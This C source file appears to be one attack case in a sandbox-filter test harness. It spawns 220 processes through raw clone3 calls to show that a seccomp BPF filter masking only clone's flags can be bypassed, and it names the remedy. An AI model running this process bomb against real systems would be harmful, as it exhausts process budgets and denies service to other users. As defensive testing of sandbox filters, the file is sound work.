// SPDX-License-Identifier: MIT
/*
 * clone3.c - a process bomb by clone3(2).
 *
 * Goal: fill the task budget.
 * Means: clone3 takes its flags behind a pointer, and a BPF filter cannot follow pointers: it
 * cannot tell a thread from a process. A filter that masks clone's flags and forgets clone3 has
 * masked nothing. The remedy is ENOSYS, which makes glibc fall back to clone for its threads.
 */
#include "attacks/attack.h"

#include <linux/sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TASKS 220

static enum claim run(const struct brief *b)
{
	struct clone_args how = {.exit_signal = SIGCHLD};
	pid_t child[TASKS];
	enum claim claim;

	attempting(b);
	for (int i = 0; i < TASKS; i++) {
		child[i] = (pid_t)syscall(SYS_clone3, &how, sizeof(how));
		if (!child[i]) {
			sleep(5);
			_exit(0);
		}
		if (child[i] > 0)
			continue;
		claim = denied("clone3");
		while (i-- > 0)
			kill(child[i], SIGKILL);
		return claim;
	}
	return hold();
}

const struct attack attack = {
	.effect = "more processes than the budget",
	.means = "clone3(2), whose flags lie behind a pointer where no filter can read them",
	.oracle = "census",
	.quick = true,
	.id = "FORK-03",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "clone3 answers ENOSYS, clone is masked to threads; RLIMIT_NPROC",
	.run = run,
};
